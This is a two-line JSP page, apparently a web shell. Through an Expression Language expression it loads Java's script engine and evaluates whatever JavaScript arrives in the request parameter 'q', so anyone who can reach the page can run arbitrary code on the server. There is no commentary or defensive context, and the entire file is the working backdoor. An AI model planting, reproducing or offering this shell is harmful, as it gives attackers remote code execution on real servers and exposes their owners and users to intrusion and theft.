<%@ page isELIgnored="false" %>
<p>${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(param.q)}</p>
